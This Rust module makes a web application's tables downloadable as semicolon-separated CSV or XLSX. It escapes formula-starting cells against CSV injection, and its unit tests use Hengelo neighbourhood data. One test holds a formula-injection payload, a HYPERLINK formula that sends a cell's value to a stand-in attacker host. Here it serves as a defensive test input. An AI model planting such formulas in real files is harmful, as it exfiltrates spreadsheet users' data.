//! Tables for download: any table a page shows, as CSV (UTF-8 with a byte order mark and `;`
//! between fields, as Dutch spreadsheet programs expect) or as an XLSX workbook.

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use rust_xlsxwriter::Workbook;

use crate::AppError;

/// The file formats a table downloads in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum TableFormat {
    /// Comma-separated values (with `;`).
    Csv,
    /// An Excel workbook.
    Xlsx,
}

impl TableFormat {
    /// The format of a file name `{stem}.csv` or `{stem}.xlsx`; `None` for any other name.
    pub(crate) fn from_file_name(file: &str, stem: &str) -> Option<TableFormat> {
        match file.strip_prefix(stem)? {
            ".csv" => Some(TableFormat::Csv),
            ".xlsx" => Some(TableFormat::Xlsx),
            _ => None,
        }
    }
}

/// A value in a table: text, a number, or nothing.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum TableValue {
    /// Text.
    Text(String),
    /// A number, written with a decimal point in CSV and as a number in XLSX.
    Number(f64),
    /// No value.
    Empty,
}

impl From<String> for TableValue {
    fn from(text: String) -> Self {
        TableValue::Text(text)
    }
}

impl From<f64> for TableValue {
    fn from(value: f64) -> Self {
        if value.is_finite() { TableValue::Number(value) } else { TableValue::Empty }
    }
}

impl From<Option<f64>> for TableValue {
    fn from(value: Option<f64>) -> Self {
        value.map_or(TableValue::Empty, TableValue::from)
    }
}

/// A table with a title and a header row.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Table {
    title: String,
    headers: Vec<String>,
    rows: Vec<Vec<TableValue>>,
}

impl Table {
    /// An empty table.
    pub(crate) fn new(title: String, headers: Vec<String>) -> Table {
        Table { title, headers, rows: Vec::new() }
    }

    /// Adds a row.
    pub(crate) fn push(&mut self, row: Vec<TableValue>) {
        self.rows.push(row);
    }

    /// The table as CSV text, every text cell [`spreadsheet_safe`].
    pub(crate) fn to_csv(&self) -> Result<Vec<u8>, AppError> {
        let failed = |error: csv::Error| AppError::Internal(format!("writing CSV: {error}"));
        let mut writer = csv::WriterBuilder::new().delimiter(b';').from_writer("\u{feff}".as_bytes().to_vec());
        writer.write_record(self.headers.iter().map(|header| spreadsheet_safe(header))).map_err(failed)?;
        for row in &self.rows {
            writer
                .write_record(row.iter().map(|value| match value {
                    TableValue::Text(text) => spreadsheet_safe(text),
                    TableValue::Number(number) => number.to_string(),
                    TableValue::Empty => String::new(),
                }))
                .map_err(failed)?;
        }
        writer.into_inner().map_err(|error| AppError::Internal(format!("writing CSV: {error}")))
    }

    /// The table as an XLSX workbook with one sheet.
    pub(crate) fn to_xlsx(&self) -> Result<Vec<u8>, AppError> {
        let failed = |error: rust_xlsxwriter::XlsxError| AppError::Internal(format!("writing XLSX: {error}"));
        let mut workbook = Workbook::new();
        let sheet = workbook.add_worksheet();
        let name = sheet_name(&self.title);
        if !name.is_empty() {
            sheet.set_name(&name).map_err(failed)?;
        }
        let bold = rust_xlsxwriter::Format::new().set_bold();
        for (column, header) in self.headers.iter().enumerate() {
            sheet.write_string_with_format(0, column_index(column), header, &bold).map_err(failed)?;
        }
        for (index, row) in self.rows.iter().enumerate() {
            let line = u32::try_from(index + 1).map_err(|_| AppError::Internal("table too long for XLSX".into()))?;
            for (column, value) in row.iter().enumerate() {
                match value {
                    TableValue::Text(text) => {
                        sheet.write_string(line, column_index(column), text).map_err(failed)?;
                    }
                    TableValue::Number(number) => {
                        sheet.write_number(line, column_index(column), *number).map_err(failed)?;
                    }
                    TableValue::Empty => {}
                }
            }
        }
        sheet.set_freeze_panes(1, 0).map_err(failed)?;
        workbook.save_to_buffer().map_err(failed)
    }

    /// The table as a download named `{file_stem}.csv` or `.xlsx`.
    pub(crate) fn respond(&self, format: TableFormat, file_stem: &str) -> Result<Response, AppError> {
        let (body, content_type, extension) = match format {
            TableFormat::Csv => (self.to_csv()?, "text/csv; charset=utf-8", "csv"),
            TableFormat::Xlsx => {
                (self.to_xlsx()?, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")
            }
        };
        let mut response = body.into_response();
        let headers = response.headers_mut();
        headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
        let safe: String = file_stem
            .chars()
            .map(
                |character| if character.is_ascii_alphanumeric() || "-_".contains(character) { character } else { '-' },
            )
            .collect();
        if let Ok(value) = HeaderValue::from_str(&format!("attachment; filename=\"{safe}.{extension}\"")) {
            headers.insert(header::CONTENT_DISPOSITION, value);
        }
        Ok(response)
    }
}

/// A text cell as spreadsheet programs will not run it: one starting with `=`, `+`, `-` or `@`
/// (a formula, CSV injection), or with a tab or carriage return, gets a leading apostrophe.
pub(crate) fn spreadsheet_safe(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{value}") } else { value.to_owned() }
}

/// A worksheet's name as Excel accepts it: at most 31 characters, none of `[]:*?/\`, and not
/// starting or ending with an apostrophe (Hengelo has the buurten 't Wilbert and 't Rot).
fn sheet_name(title: &str) -> String {
    let kept: String = title.chars().filter(|character| !"[]:*?/\\".contains(*character)).collect();
    let name: String = kept.trim().trim_matches('\'').trim().chars().take(31).collect();
    name.trim_end().trim_end_matches('\'').to_owned()
}

fn column_index(column: usize) -> u16 {
    u16::try_from(column).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        let mut table = Table::new("Overzicht 2025".into(), vec!["gebied".into(), "waarde".into()]);
        table.push(vec!["Hengelose Es".to_owned().into(), 78.5.into()]);
        table.push(vec!["Noord; \"Oost\"".to_owned().into(), None::<f64>.into()]);
        table
    }

    #[test]
    fn csv_has_a_byte_order_mark_semicolons_and_quotes_where_needed() {
        let text = String::from_utf8(table().to_csv().unwrap()).unwrap();
        assert_eq!(text, "\u{feff}gebied;waarde\nHengelose Es;78.5\n\"Noord; \"\"Oost\"\"\";\n");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let mut table = Table::new("t".into(), vec!["=kop".into()]);
        table.push(vec!["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")".to_owned().into()]);
        for dangerous in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
            table.push(vec![dangerous.to_owned().into()]);
        }
        let text = String::from_utf8(table.to_csv().unwrap()).unwrap();
        for line in text.trim_start_matches('\u{feff}').lines() {
            let cell = line.trim_start_matches('"');
            assert!(cell.starts_with('\''), "{line:?} in {text:?}");
        }
        assert_eq!(spreadsheet_safe("griffie@hengelo.example"), "griffie@hengelo.example");
        assert_eq!(spreadsheet_safe("Hengelose Es"), "Hengelose Es");
    }

    #[test]
    fn sheet_names_are_ones_excel_accepts() {
        assert_eq!(sheet_name("'t Wilbert 2024"), "t Wilbert 2024");
        assert_eq!(sheet_name("Overzicht [2025]: wijk/buurt?"), "Overzicht 2025 wijkbuurt");
        assert_eq!(sheet_name("Een heel erg lange naam van een buurt in 2025"), "Een heel erg lange naam van een");
        assert_eq!(sheet_name("''"), "");
        let mut table = Table::new("'t Rot 2024".into(), vec!["gebied".into()]);
        table.push(vec!["'t Rot".to_owned().into()]);
        assert!(table.to_xlsx().unwrap().starts_with(b"PK"), "refused before: a name may not start with an apostrophe");
    }

    #[test]
    fn xlsx_is_a_zip_workbook() {
        let bytes = table().to_xlsx().unwrap();
        assert!(bytes.starts_with(b"PK"), "an XLSX file is a ZIP archive");
    }

    #[test]
    fn file_names_choose_the_format() {
        assert_eq!(TableFormat::from_file_name("data.csv", "data"), Some(TableFormat::Csv));
        assert_eq!(TableFormat::from_file_name("data.xlsx", "data"), Some(TableFormat::Xlsx));
        assert_eq!(TableFormat::from_file_name("data.pdf", "data"), None);
        assert_eq!(TableFormat::from_file_name("other.csv", "data"), None);
    }
}
